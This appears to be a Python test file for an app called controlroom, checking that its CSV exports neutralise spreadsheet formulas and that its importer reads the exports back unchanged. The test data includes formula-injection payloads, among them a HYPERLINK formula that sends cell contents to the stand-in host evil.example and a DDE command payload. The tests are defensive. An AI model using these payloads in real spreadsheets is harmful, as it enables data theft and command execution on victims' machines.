"""Exports a spreadsheet cannot turn against the host: every CSV the app writes neutralises formulas,
and our own importers read our own exports back to the same text."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import date, time
from pathlib import Path

import pytest

from controlroom.agenda.types import AgendaDraft, BlockData
from controlroom.exporters.safe_csv import escape_cell, needs_escape, unescape_cell
from controlroom.models import EventStore
from controlroom.models.agenda_repo import AgendaRepository

CONTROLROOM = Path(sys.executable).with_name("controlroom")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1;"Klikk")',
    "+SUM(1)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "'=allerede med apostrof",
]
SPREADSHEET_TRIGGERS = tuple("=+-@\t\r\n")


def _event(path: Path, titles: list[str]) -> Path:
    store = EventStore.open(path, create=True)
    try:
        blocks = [
            BlockData(day=date(2024, 5, 6), start=time(9 + i // 4, (i % 4) * 15), minutes=15, title=title,
                      description=f"-{title}", notes="@merknad", assigned=["=Ola"], uid=f"b{i:02d}")
            for i, title in enumerate(titles)
        ]
        AgendaRepository(store).import_draft(AgendaDraft(title="Samling", timezone="Europe/Oslo", blocks=blocks))
    finally:
        store.close()
    return path


def _cli(*args: str | Path) -> subprocess.CompletedProcess:
    return subprocess.run([str(CONTROLROOM), *map(str, args)], capture_output=True, text=True, timeout=60)


def _cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(SPREADSHEET_TRIGGERS):
                # the one exception: a plain negative number, which a spreadsheet reads as a number
                assert cell[0] == "-" and cell[1:].replace(",", "").replace(".", "").isdigit(), cell


def test_export_format_csv_writes_formula_titles_unescaped(tmp_path):
    event = _event(tmp_path / "samling.krom", HOSTILE)
    out = tmp_path / "agenda.csv"
    done = _cli("export", event, "--format", "csv", "--out", out)
    assert done.returncode == 0, done.stderr
    rows = _cells(out)
    _assert_no_formula(rows)
    titles = [r[3] for r in rows[1:]]
    assert titles[0] == "'" + HOSTILE[0] and titles[1] == "'+SUM(1)" and titles[4] == "'\t=1+1"
    assert titles[7] == "''=allerede med apostrof"
    # our own importer reads our own export back to the same text
    again = tmp_path / "igjen.krom"
    done = _cli("import", out, "--event", again)
    assert done.returncode == 0, done.stderr
    store = EventStore.open(again)
    try:
        back = AgendaRepository(store).blocks()
    finally:
        store.close()
    assert [b.title for b in back] == [t.strip() for t in HOSTILE]
    assert {b.notes for b in back} == {"@merknad"} and back[1].description == "-+SUM(1)"


def test_report_csv_writes_formula_titles_unescaped_and_keeps_negative_numbers(tmp_path):
    event = _event(tmp_path / "samling.krom", HOSTILE[:3])
    assert _cli("live", event, "goto", "0").returncode == 0
    assert _cli("live", event, "time", "-300").returncode == 0
    out = tmp_path / "rapport.csv"
    done = _cli("report", event, "--csv", "--out", out)
    assert done.returncode == 0, done.stderr
    rows = _cells(out)
    _assert_no_formula(rows)
    assert [r[2] for r in rows[1:]] == ["'" + HOSTILE[0], "'+SUM(1)", "'-2+3"]
    added = rows[0].index("Lagt til (min)")
    assert rows[1][added] == "-5"  # a real number stays a number the spreadsheet can sum


def test_group_and_zoom_csvs_go_through_the_same_writer():
    from controlroom.grouping.exports import zoom_csv
    from controlroom.grouping.types import Group, Participant, Round, RoundMode
    from controlroom.integrations.zoom.preassign import rooms_csv

    people = {"a@x.no": Participant(email="a@x.no", name="=Ola", municipality="Sola", attendance="zoom")}
    rnd = Round(number=1, mode=RoundMode(), groups=[Group(room="=Rom 1", members=["a@x.no"], pool="zoom")])
    for text in (zoom_csv(rnd, people), rooms_csv([("=Rom 1", ["a@x.no"])])):
        rows = list(csv.reader(io.StringIO(text)))
        _assert_no_formula(rows)
        assert any(cell.startswith("'") for row in rows for cell in row)


@pytest.mark.parametrize("text", [*HOSTILE, "", "'", "''", "-5", "-2,5", "'-5", "-1e5", "- 5", "Pause", "-"])
def test_escape_and_unescape_are_exact_inverses(text):
    written = escape_cell(text)
    assert not (written.startswith(SPREADSHEET_TRIGGERS) and needs_escape(written))
    assert unescape_cell(written) == text
